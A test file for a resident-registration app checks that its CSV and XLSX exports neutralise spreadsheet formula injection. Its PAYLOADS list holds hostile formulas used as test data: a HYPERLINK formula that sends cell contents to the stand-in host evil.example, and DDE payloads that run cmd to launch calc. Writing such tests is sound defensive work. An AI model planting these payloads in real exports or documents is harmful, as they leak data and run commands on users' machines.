import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { beforeAll, describe, expect, test } from 'vitest'
import { registerResident } from '#app/modules/people/people.server.ts'
import { grantRole } from '#app/modules/people/staff.server.ts'
import { acceptNotice } from '#app/modules/people/consent.server.ts'
import { buildExport } from '#app/modules/reporting/export.server.ts'
import { getIndicators } from '#app/modules/reporting/indicators.server.ts'
import * as exportRoute from '#app/routes/staff+/export.tsx'
import { safeCsvCell, toCsv } from '#app/utils/csv.server.ts'
import { prisma } from '#app/utils/db.server.ts'
import { getFixedT } from '#app/utils/i18n.server.ts'
import { createSession, serializeSessionCookie } from '#app/utils/session.server.ts'

/**
 * CSV injection (issue #16, item 3): text that people typed (a village, a population source) must
 * never reach a spreadsheet as a formula. The hostile values are stored directly, as data saved
 * before the input rules existed (or by a future path that forgets them) would be: the export is
 * the last line of defence.
 */
const PAYLOADS = [
	'=HYPERLINK("http://evil.example/?"&A2&B2,"Bấm vào đây")',
	"+cmd|' /C calc'!A0",
	"@SUM(1+9)*cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	'\t=1+1',
	'\r=1+1',
	'＝1+1',
]

// Lai Châu (12): no other test writes this province's figures.
const COMMUNE = '03388'
const PROVINCE = '12'

describe('safeCsvCell', () => {
	test.each(PAYLOADS)('text starting a formula is prefixed with an apostrophe: %j', (payload) => {
		expect(safeCsvCell(payload)).toBe(`'${payload}`)
	})
	test('ordinary text, numbers and empty cells are unchanged', () => {
		expect(safeCsvCell('Bản Nà Sản')).toBe('Bản Nà Sản')
		expect(safeCsvCell('0912 345 678')).toBe('0912 345 678')
		expect(safeCsvCell("Đội 3 - 'Khu A'")).toBe("Đội 3 - 'Khu A'")
		// A negative number is a number (a spreadsheet reads -3 as minus three, not as a formula).
		expect(safeCsvCell(-3)).toBe(-3)
		expect(safeCsvCell(0)).toBe(0)
		expect(safeCsvCell(Number.NaN)).toBe('')
		expect(safeCsvCell(null)).toBe('')
		expect(safeCsvCell(undefined)).toBe('')
	})
	test('a formula cannot start after a delimiter or a line break inside a cell either', () => {
		const csv = toCsv([['a,=1+1', 'b\n=1+1', 'x"=1']])
		expect(parse(csv.slice(1))).toEqual([['a,=1+1', 'b\n=1+1', 'x"=1']])
		expect(csv).toBe('\uFEFF"a,=1+1","b\n=1+1","x""=1"\n')
	})
})

/** Every cell of a CSV must either be a number or not start a formula. */
function expectNoFormula(csvText: string) {
	expect(csvText.startsWith('\uFEFF')).toBe(true)
	const cells = (parse(csvText.slice(1), { relax_column_count: true }) as string[][]).flat()
	for (const cell of cells) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell, 'a cell would start a formula').not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
	return cells
}

/** Every cell of every sheet, read back as Excel would; none may be a formula. */
async function xlsxCells(bytes: ArrayBuffer | Buffer) {
	const book = new ExcelJS.Workbook()
	await book.xlsx.load(bytes as never)
	const cells: ExcelJS.Cell[] = []
	for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)))
	expect(cells.length).toBeGreaterThan(0)
	for (const cell of cells) expect(cell.type, `${cell.address} is a formula`).not.toBe(ExcelJS.ValueType.Formula)
	return cells
}

let cookie = ''
beforeAll(async () => {
	let n = 0
	const phone = () => `039${String(Date.now() % 100_000).padStart(5, '0')}${String(n++).padStart(2, '0')}`
	for (const village of PAYLOADS) {
		await registerResident({
			phone: phone(),
			profile: {
				fullName: 'Lò Văn Công Thức',
				birthYear: 1970,
				sex: 'MALE',
				ethnicGroup: '03',
				learnerGroup: 'RESIDENT',
				provinceCode: PROVINCE,
				communeCode: COMMUNE,
				village,
			},
			passwordHash: { kind: 'PIN', hash: 'x' },
			via: 'SEED',
		})
	}
	const staff = await registerResident({
		phone: phone(),
		profile: {
			fullName: 'Cầm Thị Cán Bộ',
			birthYear: 1985,
			sex: 'FEMALE',
			ethnicGroup: '03',
			learnerGroup: 'OFFICIAL',
			provinceCode: PROVINCE,
			communeCode: COMMUNE,
		},
		passwordHash: { kind: 'PIN', hash: 'x' },
		via: 'SEED',
	})
	await grantRole({ userId: staff.id, role: 'COMMUNE_STAFF', communeCode: COMMUNE, grantedById: null })
	await acceptNotice({ userId: staff.id, kind: 'staff', channel: 'SEED' }) // read the staff notice (ADR 028)
	cookie = (await serializeSessionCookie((await createSession(staff.id)).token)).split(';')[0]!
	await prisma.communePopulation.create({
		data: { communeCode: COMMUNE, provinceCode: PROVINCE, adultPopulation: 1200, source: PAYLOADS[0]!, asOf: new Date('2025-01-01T00:00:00Z') },
	})
})

async function staffExport(format: string) {
	const request = new Request(`http://localhost/staff/export?format=${format}&commune=${COMMUNE}`, { headers: { Cookie: cookie } })
	const response = (await exportRoute.loader({ request, params: {}, context: {} } as never)) as Response
	expect(response.status).toBe(200)
	return response
}

describe('the residents export (staff)', () => {
	test('CSV: every hostile village is neutralised, and phones keep their leading 0 as text', async () => {
		const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await (await staffExport('csv')).arrayBuffer())
		const cells = expectNoFormula(text)
		for (const payload of PAYLOADS) expect(cells).toContain(`'${payload}`)
		// "0391 234 567": Excel keeps it as text (not a number without its 0), and it is no formula.
		const phones = cells.filter((c) => /^03\d\d /.test(c))
		// The residents only: the staff member who exports is not in their own commune's list.
		expect(phones.length).toBe(PAYLOADS.length)
		for (const p of phones) expect(p).toMatch(/^0\d{3} \d{3} \d{3}$/)
	})

	test('XLSX: hostile text is stored as plain text, never as a formula', async () => {
		const bytes = await (await staffExport('xlsx')).arrayBuffer()
		const cells = await xlsxCells(bytes)
		// XML turns a lone CR into a line feed: compare as Excel will show them.
		const payloads = PAYLOADS.map((p) => p.replace(/\r/g, '\n'))
		const villages = cells.filter((c) => payloads.includes(String(c.value).replace(/\r/g, '\n')))
		expect(villages.length).toBe(PAYLOADS.length)
		for (const cell of villages) expect(cell.type).toBe(ExcelJS.ValueType.String)
	})

	test('the import template is safe too', async () => {
		expectNoFormula(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await (await staffExport('template')).arrayBuffer()))
	})
})

describe('the indicator export (province)', () => {
	const input = async () => ({
		report: await getIndicators({ provinceCode: PROVINCE, communeCodes: [COMMUNE], from: '2025-01', to: '2025-03', granularity: 'month' as const }),
		lng: 'vi' as const,
		t: await getFixedT('vi'),
	})

	test('CSV: a hostile population source is neutralised; counts stay numbers', async () => {
		const csv = await buildExport('csv', await input())
		const cells = expectNoFormula(String(csv.body))
		expect(cells).toContain(`'${PAYLOADS[0]} (2025-01-01)`)
		expect(cells).toContain('1200')
	})

	test('XLSX: the source is a text cell, no formula anywhere', async () => {
		const xlsx = await buildExport('xlsx', await input())
		const cells = await xlsxCells(xlsx.body as Buffer)
		expect(cells.find((c) => c.value === `${PAYLOADS[0]} (2025-01-01)`)?.type).toBe(ExcelJS.ValueType.String)
	})
})
